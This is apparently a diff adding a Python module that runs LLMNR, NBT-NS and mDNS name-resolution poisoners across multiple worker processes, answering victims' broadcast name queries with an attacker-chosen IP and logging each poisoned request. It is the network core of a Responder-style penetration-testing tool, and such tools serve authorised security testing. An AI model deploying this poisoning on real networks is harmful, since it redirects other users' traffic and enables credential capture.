@@ -0,0 +1,257 @@
+import socket
+import struct
+import ipaddress
+import logging
+import selectors
+import threading
+import multiprocessing
+import queue
+import zlib
+from typing import Callable, Dict, FrozenSet, Optional
+
+from src.modules.capture.packets import PROTOCOLS, answer_query
+from src.utils.network_context import NetworkContext
+
+# Linux value of IP_PKTINFO, not exported by the socket module on every build
+IP_PKTINFO = getattr(socket, 'IP_PKTINFO', 8)
+
+MULTICAST_GROUPS = {
+    'llmnr': '224.0.0.252',
+    'mdns': '224.0.0.251',
+}
+
+LIMITED_BROADCAST = socket.inet_aton('255.255.255.255')
+
+def _bind_worker_socket(protocol: str, bind_address: str, port: int) -> socket.socket:
+    """Create a UDP socket sharing its port with the other workers through SO_REUSEPORT"""
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
+    try:
+        sock.setsockopt(socket.IPPROTO_IP, IP_PKTINFO, 1)
+    except OSError:
+        pass  # Without PKTINFO every worker answers every datagram it sees
+    sock.bind((bind_address, port))
+    if bind_address == '0.0.0.0' and protocol in MULTICAST_GROUPS:
+        mreq = struct.pack("4s4s", socket.inet_aton(MULTICAST_GROUPS[protocol]),
+                           socket.inet_aton('0.0.0.0'))
+        sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)
+    sock.setblocking(False)
+    return sock
+
+def interface_broadcasts(network: NetworkContext = None) -> Dict[int, FrozenSet[bytes]]:
+    """Subnet broadcast addresses (packed) of each interface, by interface index"""
+    broadcasts = {}
+    for name, entries in (network or NetworkContext.shared()).interfaces().items():
+        try:
+            # Alias labels such as eth0:1 belong to the base interface
+            index = socket.if_nametoindex(name.split(':')[0])
+        except OSError:
+            continue
+        for entry in entries:
+            if entry.prefixlen >= 31:
+                continue  # Point-to-point links and host routes have no broadcast address
+            subnet = ipaddress.ip_network(f"{entry.address}/{entry.prefixlen}", strict=False)
+            broadcasts.setdefault(index, set()).add(subnet.broadcast_address.packed)
+    return {index: frozenset(addresses) for index, addresses in broadcasts.items()}
+
+def _is_shared_destination(ancdata, broadcasts: Dict[int, FrozenSet[bytes]]) -> bool:
+    """True if the datagram was sent to a multicast address or a broadcast address of its interface"""
+    for level, kind, cmsg in ancdata:
+        if level == socket.IPPROTO_IP and kind == IP_PKTINFO and len(cmsg) >= 12:
+            ifindex, _, dst = struct.unpack('I4s4s', cmsg[:12])
+            return 224 <= dst[0] <= 239 or dst == LIMITED_BROADCAST or dst in broadcasts.get(ifindex, ())
+    return False
+
+def owns_datagram(worker_index: int, workers: int, client_address, data: bytes) -> bool:
+    """
+    Decide whether a worker should answer a multicast/broadcast datagram.
+
+    The kernel load-balances unicast datagrams across a SO_REUSEPORT group but
+    delivers multicast and broadcast datagrams to every member, so those are
+    sharded on the client address and transaction ID instead.
+    """
+    key = socket.inet_aton(client_address[0]) + struct.pack('!H', client_address[1]) + data[:2]
+    return zlib.crc32(key) % workers == worker_index
+
+def _worker_main(worker_index: int, workers: int, bind_address: str, ports: Dict[str, int],
+                 response_ip: str, broadcasts: Dict[int, FrozenSet[bytes]], events, stop_event, control):
+    """Entry point of a responder worker process"""
+    selector = selectors.DefaultSelector()
+    try:
+        for protocol, port in ports.items():
+            sock = _bind_worker_socket(protocol, bind_address, port)
+            selector.register(sock, selectors.EVENT_READ, protocol)
+    except Exception as e:
+        events.put(('error', worker_index, str(e), None))
+        return
+    # New (response_ip, broadcasts) from ResponderWorkerPool.update(), applied between datagrams
+    selector.register(control, selectors.EVENT_READ, None)
+    events.put(('ready', worker_index, None, None))
+
+    ancillary_size = socket.CMSG_SPACE(12)
+    while not stop_event.is_set():
+        for key, _ in selector.select(timeout=0.2):
+            sock, protocol = key.fileobj, key.data
+            if protocol is None:
+                try:
+                    response_ip, broadcasts = control.recv()
+                except (EOFError, OSError):
+                    selector.unregister(control)  # The pool is gone; stop_event ends the loop
+                continue
+            try:
+                data, ancdata, _, client_address = sock.recvmsg(2048, ancillary_size)
+            except (BlockingIOError, InterruptedError):
+                continue
+            except OSError:
+                continue
+            if workers > 1 and _is_shared_destination(ancdata, broadcasts) and \
+                    not owns_datagram(worker_index, workers, client_address, data):
+                continue
+            try:
+                answer = answer_query(protocol, data, response_ip)
+                if not answer:
+                    continue
+                query_name, response = answer
+                sock.sendto(response, client_address)
+            except Exception:
+                continue
+            try:
+                events.put_nowait(('event', PROTOCOLS[protocol], client_address[0], query_name))
+            except queue.Full:
+                pass  # The aggregator is behind; the answer was already sent
+
+    for key in list(selector.get_map().values()):
+        key.fileobj.close()
+    selector.close()
+
+class ResponderWorkerPool:
+    """
+    Runs the LLMNR/NBT-NS/MDNS poisoners in N worker processes.
+
+    Each worker binds every poisoning port with SO_REUSEPORT and answers on its
+    own; poisoned requests are reported back to a single aggregator thread in
+    the owning process, which hands them to event_handler. update() changes
+    the address the workers answer with while they run.
+    """
+
+    def __init__(self, response_ip: str, poisoning_ports: Dict[str, int], workers: int = None,
+                 bind_address: str = '0.0.0.0',
+                 event_handler: Optional[Callable[[str, str, str], None]] = None,
+                 queue_size: int = 10000):
+        if not hasattr(socket, 'SO_REUSEPORT'):
+            raise RuntimeError("SO_REUSEPORT is not supported on this platform")
+        self.logger = logging.getLogger(__name__)
+        self.response_ip = response_ip
+        self.poisoning_ports = dict(poisoning_ports)
+        self.workers = workers or multiprocessing.cpu_count()
+        self.bind_address = bind_address
+        self.event_handler = event_handler
+        self.queue_size = queue_size
+        self.processes = []
+        self.events = None
+        self.stop_event = None
+        self.controls = []
+        self.aggregator_thread = None
+        self.running = False
+        self.events_received = 0
+
+    def start(self, timeout: float = 5.0):
+        """Spawn the worker processes and wait until every worker has bound its ports"""
+        self.events = multiprocessing.Queue(self.queue_size)
+        self.stop_event = multiprocessing.Event()
+        broadcasts = interface_broadcasts()
+        for index in range(self.workers):
+            control, worker_control = multiprocessing.Pipe(duplex=False)
+            process = multiprocessing.Process(
+                target=_worker_main,
+                args=(index, self.workers, self.bind_address, self.poisoning_ports,
+                      self.response_ip, broadcasts, self.events, self.stop_event, control),
+                name=f"responder-worker-{index}",
+                daemon=True
+            )
+            process.start()
+            control.close()
+            self.processes.append(process)
+            self.controls.append(worker_control)
+
+        ready = 0
+        try:
+            while ready < self.workers:
+                message = self.events.get(timeout=timeout)
+                kind, index, detail, _ = message
+                if kind == 'error':
+                    raise OSError(f"Responder worker {index} failed to bind: {detail}")
+                if kind == 'ready':
+                    ready += 1
+                else:
+                    self._dispatch(message)
+        except queue.Empty:
+            self.stop()
+            raise TimeoutError(f"Only {ready}/{self.workers} responder workers became ready")
+        except Exception:
+            self.stop()
+            raise
+
+        self.running = True
+        self.aggregator_thread = threading.Thread(target=self._aggregate, daemon=True)
+        self.aggregator_thread.start()
+        self.logger.info(f"Started {self.workers} responder workers on {self.bind_address} "
+                         f"ports {sorted(self.poisoning_ports.values())}")
+
+    def update(self, response_ip: str, broadcasts: Dict[int, FrozenSet[bytes]] = None):
+        """Answer with response_ip from now on and shard on the current broadcast addresses"""
+        self.response_ip = response_ip
+        if broadcasts is None:
+            broadcasts = interface_broadcasts()
+        for index, control in enumerate(self.controls):
+            try:
+                control.send((response_ip, broadcasts))
+            except OSError as e:
+                self.logger.warning(f"Could not update responder worker {index}: {e}")
+        self.logger.info(f"Responder workers now answer with {response_ip}")
+
+    def _aggregate(self):
+        """Drain worker events and hand them to the event handler"""
+        while self.running:
+            try:
+                message = self.events.get(timeout=0.2)
+            except queue.Empty:
+                continue
+            except (EOFError, OSError, ValueError):
+                break
+            self._dispatch(message)
+
+    def _dispatch(self, message):
+        kind, request_type, source_ip, query_name = message
+        if kind != 'event':
+            return
+        self.events_received += 1
+        if self.event_handler:
+            try:
+                self.event_handler(request_type, source_ip, query_name)
+            except Exception as e:
+                self.logger.error(f"Error handling worker event: {e}")
+
+    def stop(self):
+        """Stop all workers and the aggregator"""
+        if self.stop_event:
+            self.stop_event.set()
+        # Keep aggregating while the workers exit so they can flush their queue
+        for process in self.processes:
+            process.join(timeout=2)
+            if process.is_alive():
+                process.terminate()
+        self.processes = []
+        for control in self.controls:
+            control.close()
+        self.controls = []
+        self.running = False
+        if self.aggregator_thread:
+            self.aggregator_thread.join(timeout=1)
+            self.aggregator_thread = None
+        if self.events:
+            self.events.close()
+            self.events = None
+        self.logger.info("Responder workers stopped")